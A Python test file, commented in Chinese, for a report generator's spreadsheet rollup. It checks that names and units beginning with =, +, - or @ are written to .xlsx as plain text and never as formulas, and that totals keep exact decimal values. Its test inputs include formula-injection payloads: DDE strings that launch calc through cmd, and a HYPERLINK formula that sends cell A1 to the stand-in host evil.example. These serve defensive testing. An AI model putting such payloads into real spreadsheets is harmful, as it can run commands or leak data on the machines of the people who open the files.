"""汇总 .xlsx 里的文字永远是文字：以 = + - @（制表符、回车）开头的单位、名称、指标单位不会成为公式。"""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import yaml
from conftest import minimal_form
from openpyxl import load_workbook

NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3",
         "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]


def test_rollup_xlsx_has_no_formula(gen, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    forms = []
    for number, unit in enumerate(["=cmd|' /C calc'!A0", "+乙县", "@丙县"]):
        path = tmp_path / f"{number}.yaml"
        indicators = [{"键": "体检人数", "名称": NAMES[number], "本期": 100 + number, "上期": 50, "单位": "=1+1"},
                      {"键": "资金", "名称": "-资金", "本期": 5, "单位": "-万元"}]
        data = minimal_form(单位=unit, 指标=indicators)
        path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
        forms.append(path)
    # 第四个县的指标来自 CSV：名称全是公式样的文字
    rows = ["键,名称,本期,上期,单位"] + [f'其他{i},"{name.replace(chr(34), chr(34) * 2)}",{i},1,"=1+1"'
                                        for i, name in enumerate(NAMES)]
    rows += ['体检人数,"=HYPERLINK(""http://evil.example"",""详情"")",7,5,"=1+1"', '资金,@资金,1,,-万元']
    (tmp_path / "指标.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    csv_form = tmp_path / "丁县.yaml"
    csv_form.write_text(yaml.safe_dump(minimal_form(单位="=丁县", 指标文件="指标.csv"), allow_unicode=True),
                        encoding="utf-8")
    forms.append(csv_form)
    target = tmp_path / "全市.xlsx"
    result = gen("rollup", *map(str, forms), "-o", str(target))
    assert result.code == 0, result.err
    with zipfile.ZipFile(target) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
        assert len(sheets) == 2
        for name in sheets:
            assert not re.search(rb"<(\w+:)?f[ >/]", package.read(name)), name
    book = load_workbook(target)
    texts = {str(cell.value) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
             if cell.value is not None}
    assert {"=cmd|' /C calc'!A0", "+乙县", "@丙县", "=丁县", "=1+1", "-万元"} <= texts
    assert {name.strip() for name in NAMES} <= texts  # 读表格时去掉首尾空白（制表符、回车）
    assert NAMES[0] in texts
    assert book["汇总"]["B2"].value == "=1+1" and book["汇总"]["F2"].value == 7 and book["汇总"]["G2"].value == 100 + 101 + 102 + 7


def test_indicator_template_has_no_formula(tmp_path: Path) -> None:
    from generator.starter.sheet import template_bytes

    target = tmp_path / "样表.xlsx"
    target.write_bytes(template_bytes())
    with zipfile.ZipFile(target) as package:
        sheet = package.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet
    assert load_workbook(target)["指标"]["A2"].value == "体检人数"


def test_totals_are_written_back_and_into_xlsx_without_float(gen, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """复现 17：99999999999999.99 不经过 float（以前写回 …98），0.00003 不写成 3e-05。"""
    forms = []
    for number, (current, previous) in enumerate([("99999999999999.98", "0.00001"), ("0.01", "0.00002")]):
        path = tmp_path / f"{number}.yaml"
        indicators = [{"键": "资金", "名称": "资金", "本期": current, "上期": previous, "单位": "万元"}]
        path.write_text(yaml.safe_dump(minimal_form(单位=f"县{number}", 指标=indicators), allow_unicode=True),
                        encoding="utf-8")
        forms.append(path)
    city = tmp_path / "市.yaml"
    city.write_text(yaml.safe_dump(minimal_form(单位="市"), allow_unicode=True), encoding="utf-8")
    target = tmp_path / "全市.xlsx"
    result = gen("rollup", *map(str, forms), "-o", str(target), "--form", str(city))
    assert result.code == 0, result.err
    text = city.read_text(encoding="utf-8")
    assert "本期: 99999999999999.99\n" in text and "上期: 0.00003\n" in text
    assert yaml.safe_load(text)["指标"][0]["上期"] == 0.00003
    row = [cell.value for cell in load_workbook(target)["汇总"][2]]
    assert row[4] == "99999999999999.99" and row[5] == 0.00003  # 存不准的写成文字，存得准的仍是数
